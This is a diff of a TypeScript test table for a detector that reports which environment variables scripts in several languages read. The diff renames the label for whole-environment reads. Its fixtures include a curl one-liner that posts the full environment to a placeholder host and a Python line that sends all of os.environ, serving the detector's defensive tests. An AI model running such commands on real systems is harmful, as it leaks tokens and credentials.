@@ -17,13 +17,13 @@ const used = (kind: FileKind, text: string, is: ScriptName["is"]): readonly stri
 const variables: readonly (readonly [FileKind, string, readonly string[]])[] = [
   ["shell", "echo $NPM_TOKEN ${HOME}/x", ["NPM_TOKEN", "HOME"]],
   ["shell", "ROOT_DIR=/x\necho $ROOT_DIR", []],
-  ["shell", "curl -d @- x < <(env)", ["(all)"]],
+  ["shell", "curl -d @- x < <(env)", ["(the whole environment)"]],
   [
     "python",
     'import os\nos.environ["A_KEY"]; os.getenv("lower"); os.environ.get(\'B_KEY\')',
     ["A_KEY", "B_KEY", "lower"],
   ],
-  ["python", "import os\nsend(dict(os.environ))", ["(all)"]],
+  ["python", "import os\nsend(dict(os.environ))", ["(the whole environment)"]],
   ["perl", "print $ENV{GH_TOKEN}", ["GH_TOKEN"]],
   ["ruby", 'ENV["X_TOKEN"]; ENV.fetch("y_token")', ["X_TOKEN", "y_token"]],
   ["powershell", "$env:USERNAME; $Env:Path", ["USERNAME", "Path"]],
